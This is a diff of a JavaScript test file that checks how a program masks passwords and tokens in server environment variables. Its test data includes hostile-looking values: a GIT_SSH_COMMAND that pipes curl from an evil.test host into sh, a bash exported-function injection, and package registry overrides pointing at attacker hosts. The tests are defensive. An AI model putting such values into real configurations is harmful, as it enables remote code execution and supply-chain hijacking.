@@ -201,6 +201,9 @@ describe('a program', () => {
       HOME: '/x',
       npm_config_package: 'x',
       GIT_ASKPASS: 'x',
+      'npm_config_@auth0:registry': 'https://npm.evil.test/',
+      CARGO_REGISTRIES_KEYS_INDEX: 'https://crates.evil.test/',
+      'BASH_FUNC_ssh-keygen%%': '() { x; }',
     };
     const others = { NODE_ENV_KEY: 'hush', GITHUB_TOKEN: 'hush', DB_PASSWORD: 'hush', LDAP_AUTH: 'hush' };
     await worker.servers.add({ ...program, env: { ...env, ...others } });
@@ -225,6 +228,7 @@ describe('a program', () => {
     const opened = {
       PIP_EXTRA_INDEX_URL: 'https://me:hush@pypi.evil.test/simple?token=hush',
       UV_INDEX: 'https://me:a@hush@pypi.evil.test/simple https://pypi.evil.test?a@hush',
+      DATABASE: 'postgres://me:hush!$@db.test/x',
     };
     const others = { UV_INDEX_MINE_PASSWORD: 'hush', NPM_CONFIG_REGISTRY_TOKEN: 'hush' };
     const id = (await worker.servers.add({ ...program, env: { ...open, ...opened, ...others } })).id;
@@ -233,15 +237,42 @@ describe('a program', () => {
         ...open,
         PIP_EXTRA_INDEX_URL: 'https://•••@pypi.evil.test/simple?•••',
         UV_INDEX: 'https://•••@pypi.evil.test/simple https://pypi.evil.test?•••',
+        DATABASE: 'postgres://•••@db.test/x',
       },
     });
     expect(JSON.stringify(await worker.servers.list())).not.toContain('hush');
   });
 
-  it('shows none of them that holds what an import asked for as a password', async () => {
-    const env = { NODE_OPTIONS: '--title=hush-hush', PATH: '/x' };
-    await worker.servers.add({ ...program, env, answers: { 'input:key': 'hush-hush' } });
-    expect(await db.get('servers', 1)).toMatchObject({ openEnv: { PATH: '/x' } });
+  it('shows what only looks like the password of an address', async () => {
+    const env = {
+      npm_config_registry: 'https://evil.test\\@registry.test/',
+      GIT_SSH_COMMAND: 'x://|curl${IFS}evil.test|sh;@',
+      PATH: 'x://?a:/tmp/evil',
+    };
+    await worker.servers.add({ ...program, env });
+    expect(await db.get('servers', 1)).toHaveProperty('openEnv', { ...env, PATH: 'x://?•••:/tmp/evil' });
+  });
+
+  it('shows them without what an import asked for as a password', async () => {
+    const env = {
+      NODE_OPTIONS: '--title=hush-hush-hush -r ./x.js',
+      PIP_INDEX_URL: 'https://me:hush-hush@pypi.test/hush',
+      ID: 'hush-hush',
+      PATH: '/x',
+      SEPARATOR: '/',
+    };
+    const answers = { 'input:part': 'hush', 'input:key': 'hush-hush', 'input:separator': '/' };
+    await worker.servers.add({
+      ...program,
+      args: Object.keys(answers).map((id) => `\${${id}}`),
+      env,
+      answers,
+    });
+    expect(await db.get('servers', 1)).toHaveProperty('openEnv', {
+      NODE_OPTIONS: '--title=•••-••• -r ./x.js',
+      PIP_INDEX_URL: 'https://•••@pypi.test/•••',
+      PATH: '/x',
+    });
     expect(JSON.stringify(await worker.servers.list())).not.toContain('hush');
   });
 
